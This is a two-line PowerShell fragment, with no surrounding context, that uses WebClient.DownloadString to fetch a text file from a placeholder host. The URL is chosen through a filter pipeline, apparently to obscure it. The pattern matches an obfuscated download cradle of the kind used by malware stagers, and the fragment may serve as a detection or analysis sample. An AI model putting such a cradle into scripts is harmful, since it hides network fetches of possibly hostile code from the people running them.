$wc = New-Object System.Net.WebClient
$wc.DownloadString((('a','http://a.example/p/x.txt','b' | ?{$_.Length -gt 3} | select -First 1)))
